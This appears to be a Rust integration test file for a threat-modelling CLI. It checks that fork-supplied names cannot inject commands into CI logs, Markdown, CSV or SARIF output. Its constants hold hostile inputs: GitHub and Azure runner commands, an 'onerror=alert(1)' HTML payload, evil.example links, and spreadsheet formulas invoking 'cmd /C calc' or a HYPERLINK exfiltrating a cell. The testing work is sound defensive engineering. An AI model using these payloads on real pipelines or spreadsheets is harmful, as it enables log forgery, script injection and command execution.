//! Every output is inert (issue #28): `check`, `analyze`, `diff`, `verify` and `import` run
//! in CI on pull requests from forks, where the pull request's author writes every name,
//! title and description. Each test runs the real binary on a model with hostile text and
//! reads its output the way its reader would: a CI runner's log, a GFM renderer (comrak,
//! with GitHub's extensions), a spreadsheet splitting at `,` or `;`, a code-scanning view.

use crate::common;

use std::fs;
use std::path::{Path, PathBuf};

use common::{sample, stderr, stdout, threatboard};
use threatboard::model::Project;

fn load(name: &str) -> Project {
    threatboard::io::load(&sample(name)).expect("sample")
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

/// `p` with its title and the names of its first in-scope elements and first flow set to
/// `names` (cycled), saved as `file` in `dir`.
fn hostile(mut p: Project, names: &[&str], dir: &Path, file: &str) -> PathBuf {
    p.meta.title = names[0].to_owned();
    let d = &mut p.diagrams[0];
    for (e, name) in d
        .elements
        .iter_mut()
        .filter(|e| !e.out_of_scope)
        .zip(names.iter().cycle())
    {
        e.name = format!("{name} {}", e.name);
    }
    if let Some(f) = d.flows.first_mut() {
        f.name = names[names.len() - 1].to_owned();
    }
    let path = dir.join(file);
    threatboard::io::save(&path, &p).expect("save");
    path
}

/// What would a CI runner take as a command in this output? GitHub Actions: a line
/// starting (after white space) with `::`; its older form and Azure Pipelines: `##[` or
/// `##vso[` anywhere on a line.
fn runner_commands(output: &str) -> Vec<&str> {
    output
        .split([
            '\n', '\r', '\u{2028}', '\u{2029}', '\u{85}', '\u{b}', '\u{c}',
        ])
        .filter(|l| {
            l.trim_start().starts_with("::") && l.trim_start()[2..].contains("::")
                || l.contains("##[")
                || l.contains("##vso[")
        })
        .collect()
}

fn assert_no_runner_commands(what: &str, o: &std::process::Output) {
    for text in [stdout(o), stderr(o)] {
        let commands = runner_commands(&text);
        assert!(
            commands.is_empty(),
            "{what}: lines a CI runner runs: {commands:?}\n{text}"
        );
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202e}'),
            "{what}: an escape or bidi override reached the terminal: {text:?}"
        );
    }
}

/// Names that become CI workflow commands when printed as they are.
const LOG_INJECTION: [&str; 4] = [
    "Shop\n::error file=x.ron::pwned",
    "API\r\n::add-mask::ghp_token",
    "DB ##[error]azure-style \u{1b}[2J",
    "Queue\u{2028}::warning::sep \u{202e}olleh",
];

#[test]
fn check_analyze_and_diff_print_model_text_on_one_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let old = dir.path().join("old.ron");
    threatboard::io::save(&old, &load("web-shop.ron")).expect("save");
    let model = hostile(
        load("web-shop.ron"),
        &LOG_INJECTION,
        dir.path(),
        "model.ron",
    );
    for args in [
        vec!["check", s(&model)],
        vec!["check", s(&model), "--fail-on", "low"],
        vec!["analyze", s(&model)],
        vec!["diff", s(&old), s(&model)],
        vec!["diff", s(&model), s(&old)],
        vec!["validate", s(&model)],
    ] {
        let o = threatboard(&args);
        assert_ne!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert_no_runner_commands(&format!("{args:?}"), &o);
        // The text is still there, escaped.
        if args[0] != "validate" {
            let out = stdout(&o);
            assert!(
                [
                    "\\n::error file=x.ron::pwned",
                    "\\r\\n::add-mask::",
                    "#\\u{23}[error]",
                    "\\u{2028}::warning::"
                ]
                .iter()
                .any(|shown| out.contains(shown)),
                "{args:?}: {out}"
            );
        }
    }
    let o = threatboard(&["analyze", s(&model)]);
    assert!(
        stdout(&o).starts_with("Shop\\n::error file=x.ron::pwned\n"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn file_names_are_printed_on_one_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let sub = dir.path().join("x\n::error::named");
    fs::create_dir(&sub).expect("mkdir");
    let model = sub.join("m.ron");
    threatboard::io::save(&model, &load("web-shop.ron")).expect("save");
    for args in [
        vec!["check", s(&model)],
        vec!["validate", s(&model)],
        vec!["fmt", "--check", s(&model)],
    ] {
        let o = threatboard(&args);
        assert_no_runner_commands(&format!("{args:?}"), &o);
    }
    // A file that cannot be read names itself on one line too.
    let missing = sub.join("missing.ron");
    let o = threatboard(&["check", s(&missing)]);
    assert_eq!(o.status.code(), Some(2));
    assert_no_runner_commands("check of a missing file", &o);
}

#[test]
fn import_messages_are_printed_on_one_line() {
    let dir = tempfile::tempdir().expect("tmp");
    // A real Open Threat Model file with a command after every name.
    fn poison(v: &mut serde_json::Value) {
        match v {
            serde_json::Value::Object(map) => {
                for (k, v) in map.iter_mut() {
                    match v {
                        serde_json::Value::String(s) if k == "name" => {
                            s.push_str("\n::error::from-the-import");
                        }
                        v => poison(v),
                    }
                }
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(poison),
            _ => {}
        }
    }
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/interop/otm/startleft-cft-otm_expected_result.otm.json");
    let mut otm: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(fixture).expect("fixture")).expect("JSON");
    poison(&mut otm);
    let input = dir.path().join("in\n::error::file.otm.json");
    fs::write(&input, otm.to_string()).expect("write");
    let out = dir.path().join("out.ron");
    let o = threatboard(&["import", s(&input), "-o", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_no_runner_commands("import", &o);
    // And the imported model's names reach `check` escaped.
    let o = threatboard(&["check", s(&out), "--fail-on", "low"]);
    assert_no_runner_commands("check of the import", &o);
}

/// The serverless sample with `names` in it and its template beside it; `verify` with its
/// evidence in `format`.
fn verify_hostile(names: &[&str], format: &str) -> String {
    let dir = tempfile::tempdir().expect("tmp");
    fs::copy(
        sample("serverless.template.yaml"),
        dir.path().join("serverless.template.yaml"),
    )
    .expect("copy");
    let model = hostile(load("serverless.ron"), names, dir.path(), "serverless.ron");
    let o = threatboard(&[
        "verify",
        s(&model),
        "--evidence",
        s(&sample("evidence/checkov.sarif")),
        s(&sample("evidence/cfn-lint.sarif")),
        "--format",
        format,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    if format == "text" {
        assert_no_runner_commands("verify", &o);
    }
    stdout(&o)
}

#[test]
fn verify_text_prints_model_text_on_one_line() {
    let text = verify_hostile(&LOG_INJECTION, "text");
    assert!(text.contains("failing"), "{text}");
}

/// Markdown rendered as GitHub would: comrak with the GFM extensions (raw HTML let
/// through, as GitHub does before its sanitiser, so that any tag the text makes shows).
fn render(md: &str) -> String {
    let mut options = comrak::Options::default();
    options.extension.autolink = true;
    // GitHub filters these tags; comrak 0.55 deprecates its option but still applies it.
    #[allow(deprecated)]
    {
        options.extension.tagfilter = true;
    }
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.render.r#unsafe = true;
    comrak::markdown_to_html(md, &options)
}

/// `@name` that GitHub would turn into a mention: `@` right after a non-word character
/// (or the start) and right before a letter or digit, outside code.
fn mentions(html: &str) -> Vec<String> {
    let chars: Vec<char> = html.chars().collect();
    let mut found = Vec::new();
    for (i, &c) in chars.iter().enumerate() {
        let before_ok = i == 0 || !(chars[i - 1].is_alphanumeric() || chars[i - 1] == '_');
        let after = chars.get(i + 1).copied().unwrap_or(' ');
        if c == '@' && before_ok && after.is_ascii_alphanumeric() {
            found.push(chars[i..(i + 12).min(chars.len())].iter().collect());
        }
    }
    found
}

/// What model text must never make of a Markdown document, rendered.
fn assert_inert(what: &str, md: &str) {
    let html = render(md);
    for tag in [
        "<img",
        "<a ",
        "<!--",
        "<pre",
        "<script",
        "<del",
        "<em",
        "<strong>strong",
        "<blockquote",
        "<h1>heading",
    ] {
        assert!(
            !html.contains(tag),
            "{what}: the model text made `{tag}`:\n{md}\n---\n{html}"
        );
    }
    // Code spans come from the template only: threat keys and command lines.
    for span in html.split("<code>").skip(1) {
        let code = &span[..span.find("</code>").expect("closed")];
        assert!(
            code == "analyze --format json"
                || code
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"_.@-".contains(&b)),
            "{what}: model text in a code span: {code:?}\n{html}"
        );
    }
    let m = mentions(&html);
    assert!(m.is_empty(), "{what}: mentions {m:?}\n{html}");
    assert!(
        !html.contains("evil.example\">") && !html.contains("href="),
        "{what}: a link:\n{html}"
    );
}

/// Every table row of the rendered document has as many cells as its header.
fn assert_tables_keep_their_columns(what: &str, md: &str) {
    let html = render(md);
    for table in html.split("<table>").skip(1) {
        let table = &table[..table.find("</table>").expect("closed")];
        let header = table.matches("<th>").count() + table.matches("<th ").count();
        for row in table.split("<tr>").skip(2) {
            assert_eq!(
                row.matches("<td").count(),
                header,
                "{what}: a row with a wrong column count: {row}"
            );
        }
    }
}

/// Markup, links, images, fences, mentions and URLs in names.
const MARKUP: [&str; 11] = [
    "![x](http://evil.example/t.png)",
    "[click](http://evil.example/)",
    "@octocat and @acme/security",
    "~~~\nfenced",
    "```\ncode",
    "x\r~~~ fenced",
    "https://evil.example/a and www.evil.example",
    "mail me: someone@evil.example",
    "a | b | c",
    "<img src=x onerror=alert(1)> <!-- hide",
    "**strong**evil _em_ ~~gone~~\n# heading\n> quote\n- item",
];

#[test]
fn analyze_markdown_is_inert_when_rendered() {
    let dir = tempfile::tempdir().expect("tmp");
    let model = hostile(load("web-shop.ron"), &MARKUP, dir.path(), "model.ron");
    let o = threatboard(&["analyze", s(&model), "--format", "markdown"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let md = stdout(&o);
    assert_inert("analyze --format markdown", &md);
    assert_tables_keep_their_columns("analyze --format markdown", &md);
    // The names are still there to read.
    assert!(render(&md).contains("onerror=alert(1)"));
}

#[test]
fn diff_markdown_is_inert_when_rendered() {
    let dir = tempfile::tempdir().expect("tmp");
    let old = dir.path().join("old.ron");
    threatboard::io::save(&old, &load("web-shop.ron")).expect("save");
    let model = hostile(load("web-shop.ron"), &MARKUP, dir.path(), "new.ron");
    let o = threatboard(&["diff", s(&old), s(&model), "--format", "markdown"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let md = stdout(&o);
    assert_inert("diff --format markdown", &md);
    assert_tables_keep_their_columns("diff --format markdown", &md);
    // Everything after the names is still rendered: the folded sections are all there.
    assert!(render(&md).contains("Model changes"), "{md}");
}

#[test]
fn verify_markdown_is_inert_when_rendered() {
    let names = [
        "Orders\r<!-- the rest is hidden",
        "@octocat ![x](http://evil.example/t.png)",
        "a | b",
        "```",
    ];
    let md = verify_hostile(&names, "markdown");
    assert_inert("verify --format markdown", &md);
    assert_tables_keep_their_columns("verify --format markdown", &md);
    let html = render(&md);
    assert!(
        html.contains("<table>"),
        "the table after the title shows:\n{html}"
    );
    assert!(
        html.contains("Evidence:"),
        "the evidence line shows:\n{html}"
    );
}

/// Formula-looking names, whole and after a `;` or `,`.
const FORMULAS: [&str; 6] = [
    "Login API;=1+1;",
    " =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "Orders, +cmd|' /C calc'!A0",
    "Shop;\t=2+2",
    "x; @SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
];

#[test]
fn csv_cells_never_start_a_formula_whatever_the_separator() {
    let dir = tempfile::tempdir().expect("tmp");
    let model = hostile(load("web-shop.ron"), &FORMULAS, dir.path(), "model.ron");
    let o = threatboard(&["analyze", s(&model), "--format", "csv"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = stdout(&o);
    let text = text.trim_start_matches('\u{feff}');
    let mut cells = 0;
    for delimiter in [b',', b';'] {
        for quoting in [true, false] {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(delimiter)
                .quoting(quoting)
                .flexible(true)
                .has_headers(false)
                .from_reader(text.as_bytes());
            for row in reader.records() {
                for cell in &row.expect("row") {
                    cells += 1;
                    let start = cell.trim_start_matches([' ', '"']);
                    assert!(
                        !start.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "a cell a spreadsheet would run (delimiter {:?}, quoting {quoting}): {cell:?}",
                        char::from(delimiter)
                    );
                }
            }
        }
    }
    assert!(cells > 400);
    // Every field is quoted, and the names are still readable.
    let header = text.lines().next().expect("header");
    assert!(header.starts_with("\"key\",\"rule\""), "{header}");
    assert!(text.contains("Login API;'=1+1;"), "{text}");
}

/// A SARIF id made from model text: a safe alphabet only.
fn safe_id(id: &str) -> bool {
    !id.is_empty()
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-@%/|".contains(&b))
}

#[test]
fn sarif_ids_and_fingerprints_are_sanitised() {
    let dir = tempfile::tempdir().expect("tmp");
    let names = ["Shop/../other\n::error::x <b>", "y"];
    let model = hostile(load("web-shop.ron"), &names, dir.path(), "model.ron");
    let o = threatboard(&["analyze", s(&model), "--format", "sarif"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("SARIF");
    let run = &v["runs"][0];
    let automation = run["automationDetails"]["id"].as_str().expect("id");
    let title = automation
        .strip_prefix("threatboard/")
        .expect("the threatboard category");
    assert!(
        safe_id(title) && !title.contains('/'),
        "automation id {automation:?}"
    );
    for result in run["results"].as_array().expect("results") {
        let rule = result["ruleId"].as_str().expect("ruleId");
        assert!(safe_id(rule), "ruleId {rule:?}");
        for (_, fp) in result["partialFingerprints"].as_object().expect("fps") {
            let fp = fp.as_str().expect("fingerprint");
            assert!(safe_id(fp), "fingerprint {fp:?}");
        }
    }

    // `verify --format sarif`: the control's fingerprint carries the control's own text.
    let text = verify_hostile(&["Shop\n::error::x"], "sarif");
    let v: serde_json::Value = serde_json::from_str(&text).expect("SARIF");
    let results = v["runs"][0]["results"].as_array().expect("results");
    assert!(!results.is_empty());
    for result in results {
        for (_, fp) in result["partialFingerprints"].as_object().expect("fps") {
            let fp = fp.as_str().expect("fingerprint");
            assert!(safe_id(fp), "fingerprint {fp:?}");
        }
    }
}

#[test]
fn the_workshop_summary_markdown_is_inert_when_rendered() {
    let dir = tempfile::tempdir().expect("tmp");
    let path = hostile(load("web-shop.ron"), &MARKUP, dir.path(), "model.ron");
    let project = threatboard::io::load(&path).expect("load");
    let session = threatboard::model::WorkshopSession {
        facilitator: "@octocat <img src=x>".into(),
        participants: vec!["[me](http://evil.example/)".into(), "@acme/security".into()],
        notes:
            "    indented code\n```\nfence\n1. list\n- item\n> quote\n<!-- hide\nwww.evil.example"
                .into(),
        ..Default::default()
    };
    let analysis = threatboard::analysis::analyze(
        &project,
        &threatboard::analysis::Catalogue::builtin().expect("rules"),
    );
    let md = threatboard::report::session_markdown(&project, &analysis, &session);
    assert_inert("the workshop summary", &md);
    assert_tables_keep_their_columns("the workshop summary", &md);
    let html = render(&md);
    assert!(
        !html.contains("<ol") && !html.contains("<ul>\n<li>item"),
        "the notes made a list:\n{html}"
    );
    assert!(html.contains("indented code"), "{html}");
}

#[test]
fn data_formats_printed_into_a_log_carry_the_names_exactly_but_no_runner_command() {
    let dir = tempfile::tempdir().expect("tmp");
    let old = dir.path().join("old.ron");
    threatboard::io::save(&old, &load("web-shop.ron")).expect("save");
    let names = [
        "Shop ##[add-mask]ghp_token",
        "API\n::error::from-a-cell",
        "DB ##vso[task.setvariable variable=x]1",
    ];
    let model = hostile(load("web-shop.ron"), &names, dir.path(), "model.ron");
    for args in [
        vec!["analyze", s(&model), "--format", "json"],
        vec!["analyze", s(&model), "--format", "sarif"],
        vec!["analyze", s(&model), "--format", "csv"],
        vec!["diff", s(&old), s(&model), "--format", "json"],
    ] {
        let o = threatboard(&args);
        assert_ne!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert_no_runner_commands(&format!("{args:?}"), &o);
    }
    // JSON still carries the title exactly.
    let o = threatboard(&["analyze", s(&model), "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("JSON");
    assert_eq!(v["project"], names[0]);
}
